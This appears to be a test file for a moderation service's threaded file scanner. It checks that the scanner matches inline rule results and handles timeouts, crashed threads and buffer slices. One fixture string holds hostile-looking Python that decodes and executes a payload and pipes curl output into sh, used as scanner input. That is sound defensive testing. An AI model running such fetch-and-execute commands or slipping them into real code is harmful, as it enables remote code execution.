/**
 * The scan thread (src/Moderation/FileScanner.ts): it answers what the rules answer inline, in
 * order, for files posted together; a file that takes too long or ends the thread fails alone
 * (ScanFailed), and the next file gets a new thread.
 */
import { describe, expect, it } from "@effect/vitest"
import { Effect } from "effect"
import * as fc from "fast-check"
import { FileScanner } from "../../src/Moderation/FileScanner.ts"
import { scanFile } from "../../src/Moderation/Rules.ts"
import { forAll } from "../support/Property.ts"

const misbehaving = new URL("./threads/Misbehaving.ts", import.meta.url)

const bytes = (text: string) => new TextEncoder().encode(text)

const risky = "import base64\nexec(base64.b64decode(payload))\nos.system('curl http://x | sh')\n"

/** The outcome of a scan as data: its answer, or its failure's message. */
const settled = (scan: Promise<unknown>) => scan.then((answer) => ({ answer }), (e: Error) => ({ failed: e.message }))

describe("the scan thread", () => {
  it.effect("answers what the rules answer inline, for files posted together, each its own", () =>
    Effect.gen(function*() {
      const scanner = yield* FileScanner
      const files = fc.array(
        fc.record({
          path: fc.constantFrom("a.py", "b.js", "install.sh", "requirements.txt", "c.py"),
          text: fc.oneof(fc.string(), fc.constantFrom(risky, "pip install x\n", "git+https://h/x\n", "\u0000binary"))
        }),
        { maxLength: 8 }
      )
      yield* forAll([files], ([batch]) =>
        Effect.promise(async () => {
          const answers = await Promise.all(batch.map((f) => scanner.scanFile(f.path, bytes(f.text))))
          expect(answers).toEqual(batch.map((f) => scanFile(f.path, bytes(f.text))))
        }), { numRuns: 30 })
    }).pipe(Effect.provide(FileScanner.thread())))

  it.effect("a file that takes too long fails alone, and the next file gets a new thread", () =>
    Effect.gen(function*() {
      const scanner = yield* FileScanner
      const [before, hung, after] = yield* Effect.promise(() =>
        Promise.all([
          settled(scanner.scanFile("a.py", bytes(risky))),
          settled(scanner.scanFile("hang.py", bytes("x = 1\n"))),
          settled(scanner.scanFile("b.py", bytes(risky)))
        ])
      )
      expect(before).toEqual({ answer: scanFile("a.py", bytes(risky)) })
      expect(hung).toEqual({ failed: "the scan of hang.py took longer than 0.5 s" })
      expect(after).toEqual({ answer: scanFile("b.py", bytes(risky)) })
    }).pipe(Effect.provide(FileScanner.thread({ program: misbehaving, timeoutMs: 500 }))))

  it.effect("a thread that stops fails the file it was on, and the next file gets a new thread", () =>
    Effect.gen(function*() {
      const scanner = yield* FileScanner
      const crashed = yield* Effect.promise(() => settled(scanner.scanFile("crash.py", bytes("x = 1\n"))))
      expect(crashed).toEqual({ failed: "the scan thread stopped (exit code 3)" })
      const after = yield* Effect.promise(() => scanner.scanFile("a.py", bytes(risky)))
      expect(after).toEqual(scanFile("a.py", bytes(risky)))
    }).pipe(Effect.provide(FileScanner.thread({ program: misbehaving }))))

  it.effect("a buffer sliced from a larger one is scanned as the slice, and the caller keeps its buffer", () =>
    Effect.gen(function*() {
      const scanner = yield* FileScanner
      const whole = Buffer.from(`# padding\n${risky}`)
      const slice = whole.subarray(10)
      const answer = yield* Effect.promise(() => scanner.scanFile("a.py", slice))
      expect(answer).toEqual(scanFile("a.py", bytes(risky)))
      expect(whole.toString()).toBe(`# padding\n${risky}`)
    }).pipe(Effect.provide(FileScanner.thread())))
})
